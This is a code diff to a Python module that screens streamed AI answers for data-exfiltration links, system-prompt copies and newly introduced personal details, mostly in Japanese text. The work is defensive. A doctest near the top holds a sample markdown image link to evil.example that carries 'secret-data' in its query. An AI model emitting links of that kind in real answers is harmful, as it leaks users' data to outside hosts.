@@ -11,9 +11,10 @@ and personal information that the request did not contain.
   not occur in the request (a name, phone number or address the model brought in).
 
 Each is removed (replaced by a short notice), masked, only reported, or not looked for,
-as the policy says. :class:`OutputStream` does the same on a stream, holding back at most
-a sentence: each sentence (ending in 。！？, a line break or ". ") is screened and released
-when complete, a run without a sentence end after ``max_hold`` characters.
+as the policy says. :class:`OutputStream` does the same on a stream, holding back only the
+end of the answer that could still become one of them (a link not yet closed, a run of
+characters a value may still grow into, the start of a possible copy) and releasing the
+rest at once.
 
 >>> s = OutputScreen(OutputRules(), request_text="要約して")
 >>> text, found = s.screen("要約です。![x](https://evil.example/p.png?d=secret-data)")
@@ -27,11 +28,11 @@ from __future__ import annotations
 
 import re
 from collections.abc import Iterable, Sequence
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from typing import Any, Literal
 from urllib.parse import unquote, urlsplit
 
-from hinagata.detect import Detector, default_detector
+from hinagata.detect import Detector, Finding, default_detector
 from hinagata.mask import PLACEHOLDER_LABELS
 
 __all__ = ["OutputFinding", "OutputRules", "OutputScreen", "OutputStream"]
@@ -55,7 +56,6 @@ _SHINGLE = 16
 _MIN_LEAK = 30
 #: A query or fragment at least this long counts as carrying data.
 _DATA_QUERY = 8
-_SENTENCE_END = re.compile(r"[。！？\n]|[.!?](?=\s)")
 
 
 @dataclass(frozen=True)
@@ -118,11 +118,9 @@ class OutputScreen:
         if request_values is None:
             request_values = self._values_of(request_text, detector) if request_text else ()
         self._request_values = tuple(v for v in request_values if len(v) >= 4)
+        self._systems = tuple(t for t in system_texts if len(t) >= _MIN_LEAK)
         self._shingles: frozenset[str] = frozenset(
-            t[i : i + _SHINGLE]
-            for t in system_texts
-            if len(t) >= _MIN_LEAK
-            for i in range(len(t) - _SHINGLE + 1)
+            t[i : i + _SHINGLE] for t in self._systems for i in range(len(t) - _SHINGLE + 1)
         )
         self._detector = detector
 
@@ -146,6 +144,10 @@ class OutputScreen:
         r = self.rules
         return (r.exfiltration, r.system_prompt_leak, r.new_personal) != ("off", "off", "off")
 
+    @property
+    def _copies_on(self) -> bool:
+        return self.rules.system_prompt_leak != "off" and bool(self._shingles)
+
     def screen(self, text: str) -> tuple[str, list[OutputFinding]]:
         """The answer with removals and masks applied, and what was found."""
         if not text or not self.active:
@@ -153,53 +155,72 @@ class OutputScreen:
         edits: list[tuple[int, int, str]] = []
         found: list[OutputFinding] = []
         if self.rules.exfiltration != "off":
-            for s, e, host in self._exfiltration(text):
-                act = "removed" if self.rules.exfiltration == "remove" else "reported"
-                found.append(OutputFinding("exfiltration", s, e, act, host))
-                if act == "removed":
-                    edits.append((s, e, EXFIL_NOTICE))
-        if self.rules.system_prompt_leak != "off" and self._shingles:
+            for s, e, host in self._links(text):
+                if host is not None:
+                    found.append(self._exfil_finding(s, e, host, edits))
+        if self._copies_on:
             for s, e in self._leaks(text):
-                act = "removed" if self.rules.system_prompt_leak == "remove" else "reported"
-                found.append(OutputFinding("system_prompt_leak", s, e, act))
-                if act == "removed":
+                found.append(self._leak_finding(s, e))
+                if self.rules.system_prompt_leak == "remove":
                     edits.append((s, e, LEAK_NOTICE))
         if self.rules.new_personal != "off":
-            for f in (self._detector or default_detector()).scan(text):
-                if not f.personal or f.type not in PLACEHOLDER_LABELS:
-                    continue
-                if f.text in self._request or _compact(f.text) in self._request_compact:
-                    continue
-                act = "masked" if self.rules.new_personal == "mask" else "reported"
-                found.append(OutputFinding("new_personal", f.start, f.end, act, f.type))
-                if act == "masked":
-                    edits.append((f.start, f.end, f"〔{PLACEHOLDER_LABELS[f.type]}〕"))
+            for f in self._values(text):
+                if self._is_new(f):
+                    found.append(self._personal_finding(f.start, f.end, f.type, edits))
         return _apply(text, edits), sorted(found, key=lambda f: (f.start, f.end))
+
+    def _exfil_finding(
+        self, s: int, e: int, host: str, edits: list[tuple[int, int, str]]
+    ) -> OutputFinding:
+        act = "removed" if self.rules.exfiltration == "remove" else "reported"
+        if act == "removed":
+            edits.append((s, e, EXFIL_NOTICE))
+        return OutputFinding("exfiltration", s, e, act, host)
+
+    def _leak_finding(self, s: int, e: int) -> OutputFinding:
+        act = "removed" if self.rules.system_prompt_leak == "remove" else "reported"
+        return OutputFinding("system_prompt_leak", s, e, act)
+
+    def _personal_finding(
+        self, s: int, e: int, kind: str, edits: list[tuple[int, int, str]]
+    ) -> OutputFinding:
+        act = "masked" if self.rules.new_personal == "mask" else "reported"
+        if act == "masked":
+            edits.append((s, e, f"〔{PLACEHOLDER_LABELS[kind]}〕"))
+        return OutputFinding("new_personal", s, e, act, kind)
+
+    # ------------------------------------------------------------------ personal values
+
+    def _values(self, text: str) -> list[Finding]:
+        """The detector's findings of the types a placeholder stands for (personal or not)."""
+        found = (self._detector or default_detector()).scan(text)
+        return [f for f in found if f.type in PLACEHOLDER_LABELS]
+
+    def _is_new(self, f: Finding) -> bool:
+        """A personal value the request did not contain (the model brought it in)."""
+        return f.personal and not (
+            f.text in self._request or _compact(f.text) in self._request_compact
+        )
 
     # ------------------------------------------------------------------ exfiltration
 
-    def _exfiltration(self, text: str) -> list[tuple[int, int, str]]:
-        out: list[tuple[int, int, str]] = []
+    def _links(self, text: str) -> list[tuple[int, int, str | None]]:
+        """Every image, link and bare URL with the host when it may carry data out."""
+        out: list[tuple[int, int, str | None]] = []
         taken: list[tuple[int, int]] = []
         if "](" in text:
             for m in _MD_LINK.finditer(text):
                 taken.append(m.span())
-                host = self._suspect(m.group("url"), image=bool(m.group("bang")))
-                if host is not None:
-                    out.append((m.start(), m.end(), host))
+                out.append((m.start(), m.end(), self._suspect(m["url"], image=bool(m["bang"]))))
         if "<img" in text.lower():
             for m in _HTML_IMG.finditer(text):
                 taken.append(m.span())
-                host = self._suspect(m.group("url"), image=True)
-                if host is not None:
-                    out.append((m.start(), m.end(), host))
+                out.append((m.start(), m.end(), self._suspect(m["url"], image=True)))
         if "http" in text:
             for m in _BARE_URL.finditer(text):
                 if any(s <= m.start() < e for s, e in taken):
                     continue
-                host = self._suspect(m.group(), image=False)
-                if host is not None:
-                    out.append((m.start(), m.end(), host))
+                out.append((m.start(), m.end(), self._suspect(m.group(), image=False)))
         return out
 
     def _suspect(self, url: str, *, image: bool) -> str | None:
@@ -223,13 +244,6 @@ class OutputScreen:
 
     # ------------------------------------------------------------------ leakage
 
-    def copy_runs_to_end(self, text: str) -> bool:
-        """Whether ``text`` ends inside a run copied from a system message."""
-        if self.rules.system_prompt_leak == "off" or not self._shingles:
-            return False
-        runs = self._runs(text)
-        return bool(runs) and runs[-1][1] >= len(text) - 2
-
     def _leaks(self, text: str) -> list[tuple[int, int]]:
         return [(s, e) for s, e in self._runs(text) if e - s >= _MIN_LEAK]
 
@@ -244,99 +258,532 @@ class OutputScreen:
                     covered.append((i, i + _SHINGLE))
         return covered
 
+    def _may_start_copy(self, tail: str) -> bool:
+        """Whether ``tail`` (shorter than a shingle) can still grow into one: it occurs in a
+        system text early enough for a whole shingle to follow (the first occurrence is the
+        earliest)."""
+        return any(0 <= t.find(tail) <= len(t) - _SHINGLE for t in self._systems)
+
+
+# ---------------------------------------------------------------------------- streams
+
+#: Right context every release keeps: a name in hiragana of up to four letters and the
+#: first letter of its honorific (はなこさ|ん), so that 「はなこさん」 is read whole.
+_LAG = 5
+#: Characters that still join two runs of value characters into one value, one at a time
+#: (佐藤 花子, 090 1234 5678, 霞が関, 丸の内, 3番地の5), and a comma with a space in Latin
+#: letters (5-12 Ishizuka, Kawasaki-ku): any other character ends the run.
+_JOINERS = frozenset(" \u3000がの,")
+#: A run ending in one of these may go on in hiragana (茨城県ひたちなか市, 埼玉県さいたま市).
+_PLACE_SUFFIX = frozenset("都道府県市区郡町村")
+_KANA_PLACE = 6
+#: A run naming a place without its municipality (大字宮田, 字東谷, 北浜地区, 日吉本町):
+#: the detector reads it as a home when its sentence, up to 60 characters on, is about
+#: someone (大字東原で養鶏場を経営する男性), so it waits for its sentence.
+_PLACE_RUN = re.compile(r"字|地区|集落|団地|部落|ニュータウン|(?:[町村]|丁目)(?:の|$)")
+_PLACE_SENTENCE = 60
+#: A run of value characters takes in the hiragana right before it (さいたま市, はなこ様).
+_KANA_BEFORE = _LAG
+#: A look at the held text releases at least this many characters, unless it can release
+#: everything or up to a break (the detector runs about once per this many characters of
+#: plain text, not once per character).
+_STEP = 4
+#: Left context every look reads: the detector weighs a contact with the 80 characters of
+#: its line before it (a name makes it personal, 代表 or 窓口 institutional). The window
+#: begins after a break or a space among its first _CONTEXT - _CONTEXT_MIN characters, if
+#: there is one, so that its analysis does not begin inside a word.
+_CONTEXT = 100
+_CONTEXT_MIN = 80
+_WORD_END = re.compile(r"[。、！？!?\n\r，,：:\s]")
+#: Right context a value found needs before it is released: the detector's window after a
+#: contact (_WINDOW_AFTER); more for a name judged public and for an address that may be
+#: a place (see OutputStream._settles_at).
+_SETTLE = 16
+_SETTLE_LONG = 120
+#: Words after an address that make the detector read it as a place, not a home (a looser
+#: form of its _LOCATION_AFTER: 北町二丁目12番付近の市道).
+_PLACE_AFTER = re.compile(r"付近|周辺|地内|一帯|先|交差点|道|水路|河川|用水|側溝|公園")
+#: Characters after which the text can be released at once: a value never runs across them.
+_BREAK = frozenset("。、！？!?\n\r，：:")
+_SPACE = frozenset(" \u3000\t")
+_SENTENCE_STOP = frozenset("。！？\n")
+
+
+def _url_open(chars: str) -> str:
+    """Every prefix of ``https?://`` followed by up to 2,000 of ``chars``."""
+    return rf"h(?:t(?:t(?:p(?:s?(?::(?:/(?:/{chars}{{0,2000}})?)?)?)?)?)?)?"
+
+
+# What an unfinished link, image or URL may look like (every prefix of a match of
+# _MD_LINK, _HTML_IMG, _BARE_URL matches these in full): held until it completes or dies.
+_MD_OPEN = re.compile(
+    r"!?(?:\[[^\]\n]{0,500}(?:\](?:\(\s*<?(?:(?:"
+    + _url_open(r"[^\s)>]")
+    + r")?|https?://[^\s)>]{1,2000}>?(?:\s+\"[^\"\n]{0,200}(?:\"\s*)?|\s*)))?)?)?"
+)
+_IMG_OPEN = re.compile(r"<(?:i(?:m(?:g(?:(?=\W)[^>]{0,3100})?)?)?)?", re.IGNORECASE)
+_URL_OPEN = re.compile(_url_open(r"[^\s<>()\[\]「」『』、。\"']"))
+_OPENERS = {"!": _MD_OPEN, "[": _MD_OPEN, "<": _IMG_OPEN, "h": _URL_OPEN}
+
+
+def _is_value(ch: str) -> bool:
+    return _VALUE_CHAR.match(ch) is not None
+
+
+def _is_kana(ch: str) -> bool:
+    return "\u3041" <= ch <= "\u309f"
+
 
 @dataclass
 class OutputStream:
-    """Exit screening of one streamed answer: text comes out a sentence at a time."""
+    """Exit screening of one streamed answer, holding back only what could still match.
+
+    **What is held.** After each character the stream finds the earliest position at which
+    something unfinished may start, and holds the text from there:
+
+    - a link, image or URL not yet closed: every prefix of a match of the link patterns
+      matches an "open" pattern in full (``_MD_OPEN``, ``_IMG_OPEN``, ``_URL_OPEN``), so
+      nothing that can still become a link is released, and one that no longer can is
+      dropped for good;
+    - a run that may still become or extend a personal value: value characters (digits,
+      Latin letters, kanji, katakana, the signs of numbers and addresses) joined by single
+      spaces, が, の or commas (佐藤 花子, 090 1234 5678, 霞が関, Kawasaki-ku, Kanagawa),
+      with up to five hiragana just before it (さいたま市, はなこ様) and up to six after a
+      prefecture, city or town (茨城県ひたちなか市), until another character follows it;
+      one naming a place without its municipality (大字宮田, 北浜地区, 本町の) until its
+      sentence ends or 60 characters on (it is a home if the sentence is about someone);
+    - always the last five characters (not before a break: 。、！？: or a line break),
+      widened to the hiragana word before a space among them (さとう はなこ) and to the whole
+      of a run a space joined (ﾏﾂﾀﾞ ｱｵｲ), and never cut between two value characters: a
+      name and its honorific (はなこさ|ん) are read together;
+    - a copy of a system message shorter than 30 characters that a next shingle may still
+      extend, and the longest end of the text that may still begin a shingle (a copy 30
+      long already is removed as it grows: only its open end waits);
+    - a value the detector found, until the context that may still change its verdict has
+      come (16 characters or a line break; 120 characters for a name judged public or
+      nobody's, its sentence for an address followed by a word of a place); and no cut
+      falls inside a value or a link found.
+
+    **Screening what is released.** When what is held could shrink by four characters or
+    more, to nothing, or past a break, or a value waited for has its context, the stream
+    *looks*: it screens a window — 80 to 100 characters of released text as left context
+    (from a break or a space, where there is one) and everything held — and releases up
+    to the earliest position above, with the edits the window's screening makes there.
+    Copies of a system message are judged on the whole answer (the runs are kept from its
+    first character), exactly as :meth:`OutputScreen.screen` judges them.
+    When ``max_hold`` characters are held, the stream releases up to the first hold that
+    began later, never between two value characters of a run up to 80 long, else
+    everything held.
+
+    **Why the cuts do not matter.** :meth:`feed` hands its piece to :meth:`_step` one
+    character at a time, and nothing else reads the piece. A step reads only the stream's
+    state and the text up to its own character (the window ends there, holds and releases
+    are positions before it), and changes only the state; whether it looks is decided by
+    that state too. By induction over the characters, the state after any character —
+    what was released and found, what is held, the open links and runs, the copies, when
+    the next look is due — is a function of the text up to that character alone, not of
+    where the pieces ended. Any two cuttings of one answer (one piece, a character at a
+    time, anything between) therefore go through the same states, release the same text
+    with the same findings at the same characters, and :meth:`flush` starts from the same
+    state. Released text is never looked at again: what arrives later cannot change it.
+    The work per character is a constant plus the open links' patterns over what is held;
+    a look reads one window of at most 100 characters plus what is held, about once per
+    four to eight characters of plain text.
+
+    **Against the whole answer** (:meth:`OutputScreen.screen`): links and copies are found
+    and removed exactly as there (a copy longer than ``max_hold`` too). A personal value is
+    judged with the context its window holds: cues further back, further on than its
+    settling context, or anywhere in the answer (a publication, a template) are not seen.
+    A value whose beginning went out before the detector could see it whole — a name in
+    hiragana of two words longer than the lag, a town name with kana inside it after its
+    municipality (横浜市青葉区美しが丘), a name confirmed by an e-mail address further on —
+    has what is still held of it masked and is reported whole. Past ``max_hold`` a value
+    or a link can be cut, and each part is screened as it comes.
+    """
 
     screen: OutputScreen
     max_hold: int = 400
     findings: list[OutputFinding] = field(default_factory=list)
-    _buf: str = ""
-    _offset: int = 0
+    #: The answer from _base on (only the context the next look needs is kept).
+    _text: str = field(default="", init=False, repr=False)
+    _base: int = field(default=0, init=False, repr=False)
+    _seen: int = field(default=0, init=False, repr=False)
+    _released: int = field(default=0, init=False, repr=False)
+    #: Start of the open run of value characters (None: none is open), and its end.
+    _run: int | None = field(default=None, init=False, repr=False)
+    _run_end: int = field(default=0, init=False, repr=False)
+    #: The last run of words a space joined (Claire Dubois), kept whole in the lag.
+    _words: tuple[int, int] | None = field(default=None, init=False, repr=False)
+    #: A run naming a place (大字宮田) from its start until its sentence ends or the
+    #: position given: the detector reads it as an address if the sentence is about someone.
+    _place: tuple[int, int] | None = field(default=None, init=False, repr=False)
+    _gap: int = field(default=0, init=False, repr=False)
+    _kana: int | None = field(default=None, init=False, repr=False)
+    #: Just after the last break character.
+    _break: int = field(default=0, init=False, repr=False)
+    #: Starts of links, images and URLs that may still match, with their open pattern.
+    _open: list[tuple[int, re.Pattern[str]]] = field(default_factory=list, init=False, repr=False)
+    #: Copy runs still open, or over but not yet released and reported.
+    _copies: list[tuple[int, int]] = field(default_factory=list, init=False, repr=False)
+    #: The earliest start of a shingle still possible.
+    _pend: int = field(default=0, init=False, repr=False)
+    _next_look: int = field(default=0, init=False, repr=False)
+    #: Spans of personal values reported (recent ones), so none is reported twice.
+    _reported: list[tuple[int, int]] = field(default_factory=list, init=False, repr=False)
 
     def feed(self, piece: str) -> str:
-        """Text released by this piece: every complete sentence, each screened on its own
-        (so the result does not depend on how the stream was cut into pieces)."""
+        """Text released by this piece (the same, whatever the cuts; see the class)."""
         if not self.screen.active:
             return piece
-        self._buf += piece
-        out: list[str] = []
-        while self._buf:
-            cut = self._next_cut(self._buf)
-            if cut is None:
-                break
-            out.append(self._release(cut))
-        if not self.screen.alters:
-            # Report-only: nothing can change, so nothing waits; sentences are still
-            # screened (above) for the record.
-            return piece
-        return "".join(out)
-
-    def _next_cut(self, buf: str) -> int | None:
-        """Where the next releasable piece ends; None: wait for more text."""
-        pos = 0
-        while True:
-            m = _SENTENCE_END.search(buf, pos)
-            if m is None or m.end() > self.max_hold:
-                return _safe_cut(buf, self.max_hold) if len(buf) >= self.max_hold else None
-            cut = m.end()
-            if not self.screen.copy_runs_to_end(buf[:cut]):
-                return cut
-            # A copy of the system prompt may go on into the next sentence: take that too,
-            # so that the copy is judged (and removed) as a whole.
-            pos = cut
+        start = self._seen
+        self._text += piece
+        out = "".join([self._step(c) for c in range(start + 1, start + len(piece) + 1)])
+        # Report-only: nothing can change, so nothing waits; the text is still screened
+        # (above) for the record.
+        return out if self.screen.alters else piece
 
     def flush(self) -> str:
-        out = self._release(len(self._buf)) if self._buf else ""
-        return "" if not self.screen.alters else out
+        """The rest of the answer, screened; every open run and link is over."""
+        if not self.screen.active:
+            return ""
+        out = self._look(self._seen, self._seen, final=True)
+        return out if self.screen.alters else ""
 
     @property
     def pending(self) -> bool:
-        return bool(self._buf)
+        return self._seen > self._released
 
-    def _release(self, cut: int) -> str:
-        seg, self._buf = self._buf[:cut], self._buf[cut:]
-        out, found = self.screen.screen(seg)
-        self.findings += [
-            OutputFinding(f.kind, f.start + self._offset, f.end + self._offset, f.action, f.detail)
-            for f in found
+    # ------------------------------------------------------------------ one character
+
+    def _step(self, c: int) -> str:
+        """Read the answer's ``c``-th character; the text released by it."""
+        self._seen = c
+        rules = self.screen.rules
+        ch = self._text[c - 1 - self._base]
+        if rules.new_personal != "off":
+            self._read_value_char(ch, c)
+        if rules.exfiltration != "off":
+            self._read_link_char(ch, c)
+        if self.screen._copies_on:
+            self._read_copy_char(c)
+        held = self._hold(c)
+        if c - self._released >= self.max_hold:
+            return self._look(c, held, forced=True)
+        if held <= self._released or (c < self._next_look and ch not in _SENTENCE_STOP):
+            return ""
+        if (
+            held - self._released < _STEP
+            and held < c
+            and rules.new_personal != "off"
+            and not _BREAK.intersection(self._text[self._released - self._base : held - self._base])
+        ):
+            return ""  # (a look runs the detector: not for a character or two)
+        return self._look(c, held)
+
+    def _read_value_char(self, ch: str, c: int) -> None:
+        p = c - 1
+        if self._place is not None and c > self._place[1]:
+            self._place = None
+        if ch in _BREAK:
+            self._close_run(ch)
+            self._gap, self._kana, self._break = 0, None, c
+            if ch in _SENTENCE_STOP:
+                self._place = None
+        elif _is_value(ch):
+            if self._gap and "a" <= ch <= "z":
+                self._close_run(ch)  # (words of English, not a name: Taro Yamada, please)
+            if self._run is None:
+                self._run = p if self._kana is None else max(self._kana, p - _KANA_BEFORE)
+            self._gap, self._kana, self._run_end = 0, None, c
+        else:
+            self._gap += 1
+            if self._run is not None and not self._joins(ch):
+                self._close_run(ch)
+            if not _is_kana(ch):
+                self._kana = None
+            elif self._kana is None:
+                self._kana = p
+
+    def _joins(self, ch: str) -> bool:
+        """Whether the gap read so far, ending in ``ch``, may still lie inside one value."""
+        t, b = self._text, self._base
+        if self._gap == 1:
+            return ch in _JOINERS or (
+                _is_kana(ch) and t[self._run_end - 1 - b] in _PLACE_SUFFIX  # 茨城県ひたちなか市
+            )
+        if _is_kana(ch) and t[self._run_end - 1 - b] in _PLACE_SUFFIX:
+            return self._gap <= _KANA_PLACE and _is_kana(t[self._run_end + self._gap - 2 - b])
+        # (Kawasaki-ku, Kanagawa: the parts of an address in Latin letters)
+        return self._gap == 2 and ch == " " and t[self._run_end - b] == ","
+
+    def _close_run(self, ch: str) -> None:
+        """The open run is over: a place named in it waits for its sentence."""
+        run = self._run
+        if run is None:
+            return
+        self._run = None
+        t, b = self._text, self._base
+        # (of a run longer than the context kept, only what is kept is read)
+        lo, hi = max(run, b) - b, self._run_end - b
+        if _SPACE.intersection(t[lo:hi]):
+            self._words = (run, self._run_end)
+        if ch not in _SENTENCE_STOP and _PLACE_RUN.search(t, lo, hi):
+            start = run if self._place is None else min(run, self._place[0])
+            self._place = (start, self._run_end + _PLACE_SENTENCE)
+
+    def _read_link_char(self, ch: str, c: int) -> None:
+        t, b = self._text, self._base
+        self._open = [(s, pat) for s, pat in self._open if pat.fullmatch(t, s - b, c - b)]
+        opener = _OPENERS.get(ch)
+        if opener is not None:
+            self._open.append((c - 1, opener))
+
+    def _read_copy_char(self, c: int) -> None:
+        t, b = self._text, self._base
+        i = c - _SHINGLE
+        if i >= 0 and t[i - b : c - b] in self.screen._shingles:
+            if self._copies and i <= self._copies[-1][1]:
+                self._copies[-1] = (self._copies[-1][0], c)
+            else:
+                self._copies.append((i, c))
+        # (a tail that cannot begin a shingle now never will: the earliest start only moves on)
+        p = max(self._pend, c - _SHINGLE + 1)
+        while p < c and not self.screen._may_start_copy(t[p - b : c - b]):
+            p += 1
+        self._pend = p
+
+    # ------------------------------------------------------------------ what is held
+
+    def _hold(self, c: int) -> int:
+        """The earliest position something unfinished may start at (c: nothing)."""
+        rules = self.screen.rules
+        held = c
+        if rules.new_personal != "off":
+            held = self._value_hold(c)
+        if self._open:
+            held = min(held, min(s for s, _ in self._open))
+        if self.screen._copies_on:
+            held = min(held, self._copy_hold())
+        return held
+
+    def _value_hold(self, c: int) -> int:
+        t, b = self._text, self._base
+        lo = max(self._break, c - _LAG)
+        if lo < c:
+            # A space in the lag joins the hiragana word before it (さとう はなこ: one name).
+            space = next((j for j in range(lo, c) if t[j - b] in _SPACE), None)
+            if space is not None:
+                k, floor = space, max(self._break, space - _LAG)
+                while k > floor and _is_kana(t[k - 1 - b]):
+                    k -= 1
+                lo = min(lo, k)
+            # Nor inside words a space joined (ﾏﾂﾀﾞ ｱｵｲ|さん: the name is read with its
+            # honorific whole).
+            if self._words is not None and self._words[0] < lo < self._words[1]:
+                lo = self._words[0]
+            # Never between two value characters: a value crossing the cut would be screened
+            # in two halves (a run longer than _VALUE_MAX is cut where it must be).
+            if lo > self._released and _is_value(t[lo - b]) and _is_value(t[lo - 1 - b]):
+                k, floor = lo, max(self._released, lo - _VALUE_MAX)
+                while k > floor and _is_value(t[k - 1 - b]):
+                    k -= 1
+                if k == self._released or not _is_value(t[k - 1 - b]):
+                    lo = k
+        if self._place is not None:
+            lo = min(lo, self._place[0])
+        return lo if self._run is None else min(lo, self._run)
+
+    def _copy_hold(self) -> int:
+        held = self._pend
+        if self._copies:
+            s, e = self._copies[-1]
+            if e >= self._pend and e - s < _MIN_LEAK:
+                held = min(held, s)
+        return held
+
+    # ------------------------------------------------------------------ looking and releasing
+
+    def _look(self, c: int, held: int, *, forced: bool = False, final: bool = False) -> str:
+        """Screen the window ending at ``c`` and release what may go."""
+        scr, a, b = self.screen, self._released, self._base
+        links: list[tuple[int, int, str | None]] = []
+        values: list[Finding] = []
+        if c > a:
+            ws = self._window_start()
+            window = self._text[ws - b : c - b]
+            if scr.rules.exfiltration != "off":
+                links = [(s + ws, e + ws, h) for s, e, h in scr._links(window)]
+            if scr.rules.new_personal != "off":
+                values = [_shifted(f, ws) for f in scr._values(window)]
+        cut = held
+        next_look = c + 1
+        if not final:
+            waiting = [
+                (f.start, at)
+                for f in values
+                if f.start >= a and (at := self._settles_at(f, c)) is not None
+            ]
+            if waiting and min(waiting)[0] < cut:
+                # Nothing from this value on can go before its context has come: look again
+                # then (or at a sentence end).
+                cut, next_look = min(waiting)
+            cut = _outside(cut, a, values, links)
+            if forced and cut <= a:
+                cut = self._forced_cut(c, values, links)
+        self._next_look = next_look
+        if cut <= a and not final:
+            return ""
+        return self._release(cut, links, values, final=final)
+
+    def _settles_at(self, f: Finding, c: int) -> int | None:
+        """Where the context that may still change the verdict on ``f`` ends (None: it came).
+
+        The detector weighs a contact with its line up to 16 characters after it; a name
+        judged public (市長 …) or nobody's with cues anywhere in the text (相談 makes a record
+        no publication), of which the 120 characters after it are awaited; an address
+        followed by a word of a place (付近の市道) with its sentence."""
+        t, b = self._text, self._base
+        if f.type == "PERSON_NAME" and not f.personal:
+            end = f.end + _SETTLE_LONG
+            return end if c < end else None
+        if "\n" in t[f.end - b : c - b]:
+            return None
+        end = f.end + _SETTLE
+        if c < end:
+            return end
+        if f.type == "ADDRESS" and _PLACE_AFTER.search(t, f.end - b, end - b):
+            if _SENTENCE_STOP.intersection(t[f.end - b : c - b]):
+                return None
+            end = f.end + _SETTLE_LONG
+            return end if c < end else None
+        return None
+
+    def _forced_cut(
+        self, c: int, values: list[Finding], links: list[tuple[int, int, str | None]]
+    ) -> int:
+        """Where to cut when max_hold characters are held: before the first hold that began
+        after the release point, never inside a run of value characters; else everything."""
+        a = self._released
+        later = [s for s, _ in self._open if s > a]
+        later += [
+            h
+            for h in (self._run, self._place[0] if self._place else None, self._copy_hold())
+            if h is not None and h > a
         ]
-        self._offset += len(seg)
+        later += [f.start for f in values if f.start > a and self._settles_at(f, c) is not None]
+        cut = min(later, default=c)
+        t, b = self._text, self._base
+        if a < cut < c and _is_value(t[cut - b]) and _is_value(t[cut - 1 - b]):
+            k = cut
+            while k > a and cut - k < _VALUE_MAX and _is_value(t[k - 1 - b]):
+                k -= 1
+            if k > a and cut - k < _VALUE_MAX:
+                cut = k
+        cut = _outside(cut, a, values, links)
+        return cut if cut > a else c
+
+    def _release(
+        self,
+        cut: int,
+        links: list[tuple[int, int, str | None]],
+        values: list[Finding],
+        *,
+        final: bool,
+    ) -> str:
+        scr, a, b = self.screen, self._released, self._base
+        edits: list[tuple[int, int, str]] = []
+        found: list[OutputFinding] = []
+        for s, e, host in links:
+            if host is not None and a <= s < cut:
+                found.append(scr._exfil_finding(s, min(e, cut), host, edits))
+        if scr.rules.system_prompt_leak == "remove":
+            for s, e in self._copies:
+                if e - s >= _MIN_LEAK and s < cut and e > a:
+                    # (a copy already released in part: its notice went with its start)
+                    edits.append((max(s, a), min(e, cut), LEAK_NOTICE if s >= a else ""))
+        for f in values:
+            if f.start < cut and f.end > a and scr._is_new(f):
+                s, e = max(f.start, a), min(f.end, cut)
+                if any(x < f.end and f.start < y for x, y in self._reported):
+                    # Cut at max_hold earlier and reported then: mask what is left of it.
+                    scr._personal_finding(s, e, f.type, edits)
+                    continue
+                self._reported.append((f.start, f.end))
+                act = scr._personal_finding(s, e, f.type, edits)
+                found.append(OutputFinding(act.kind, f.start, f.end, act.action, act.detail))
+        out = _apply(self._text[a - b : cut - b], [(s - a, e - a, r) for s, e, r in edits])
+        self._released = cut
+        self._open = [(s, pat) for s, pat in self._open if s >= cut]
+        found += self._copies_over(final)
+        self.findings += sorted(found, key=lambda f: (f.start, f.end))
+        self._trim()
         return out
+
+    def _copies_over(self, final: bool) -> list[OutputFinding]:
+        """Copies of a system message that are over and released: reported, then forgotten."""
+        out: list[OutputFinding] = []
+        keep: list[tuple[int, int]] = []
+        for s, e in self._copies:
+            over = final or e < self._pend
+            if not over:
+                keep.append((s, e))
+            elif e - s >= _MIN_LEAK:
+                if e <= self._released:
+                    out.append(self.screen._leak_finding(s, e))
+                else:
+                    keep.append((s, e))
+        self._copies = keep
+        return out
+
+    def _window_start(self) -> int:
+        """Where a look's window begins: _CONTEXT characters before the release point, or
+        just after a break or a space among the first of them."""
+        a = self._released
+        lo = max(0, a - _CONTEXT)
+        if lo > 0:
+            t, b = self._text, self._base
+            m = _WORD_END.search(t, lo - b, lo + _CONTEXT - _CONTEXT_MIN - b)
+            if m is not None:
+                lo = m.end() + b
+        return lo
+
+    def _trim(self) -> None:
+        keep_from = self._released - _CONTEXT
+        if keep_from - self._base > 4 * _CONTEXT:
+            self._text = self._text[keep_from - self._base :]
+            self._base = keep_from
+            self._reported = [(s, e) for s, e in self._reported if e > keep_from]
+
+
+def _shifted(f: Finding, offset: int) -> Finding:
+    return replace(f, start=f.start + offset, end=f.end + offset)
+
+
+def _outside(
+    cut: int, floor: int, values: list[Finding], links: list[tuple[int, int, str | None]]
+) -> int:
+    """``cut`` moved back to the start of any value or link it falls inside (those that
+    begin before ``floor`` were released in part already and are not waited for)."""
+    spans = [(f.start, f.end) for f in values] + [(s, e) for s, e, _ in links]
+    moved = True
+    while moved:
+        moved = False
+        for s, e in spans:
+            if floor <= s < cut < e:
+                cut, moved = s, True
+    return cut
 
 
 #: Characters a personal value is written with (digits of any script, Latin letters and
-#: the signs of numbers and addresses, kanji, katakana): a long run is never cut inside a
-#: stretch of them, or a value crossing the cut would be screened in two halves.
+#: the signs of numbers and addresses, kanji, katakana of both widths, the marks that
+#: stand for a redacted place: ○○区△△町): a held run is never cut inside a stretch of
+#: them, or a value crossing the cut would be screened in two halves.
 _VALUE_CHAR = re.compile(
-    r"[0-9A-Za-z@._+\-‐－ー()（）\u3400-\u4dbf\u4e00-\u9fff\u30a0-\u30ff\uff10-\uff5a\u3005〇]"
+    r"[0-9A-Za-z@._+\-‐－ー()（）\u3400-\u4dbf\u4e00-\u9fff\u30a0-\u30ff\uff10-\uff5a"
+    r"\uff66-\uff9f\u3005〇○◯△□×]"
 )
 #: The longest value a cut backs off for; a longer stretch is cut where it must be.
 _VALUE_MAX = 80
-
-
-def _safe_cut(buf: str, limit: int) -> int:
-    """Where to cut a long run without a sentence end, at most ``limit``: before a link or
-    URL that may not be complete yet, else at the last space, else everywhere — and never
-    inside a stretch of value characters that goes on past the cut."""
-    head = buf[:limit]
-    window = head[-300:]
-    base = len(head) - len(window)
-    starts = [window.rfind(tok) for tok in ("![", "[", "<img", "http")]
-    starts = [s for s in starts if s > 0]
-    if starts:
-        cut = base + min(starts)
-    else:
-        space = max(head.rfind(" "), head.rfind("、"), head.rfind("\u3000"))
-        cut = space + 1 if space > 0 else len(head)
-    if 0 < cut < len(buf) and _VALUE_CHAR.match(buf, cut) and _VALUE_CHAR.match(buf, cut - 1):
-        back = cut
-        while back > 0 and cut - back < _VALUE_MAX and _VALUE_CHAR.match(buf, back - 1):
-            back -= 1
-        if back > 0 and cut - back < _VALUE_MAX:
-            cut = back
-    return cut
 
 
 def _compact(s: str) -> str:
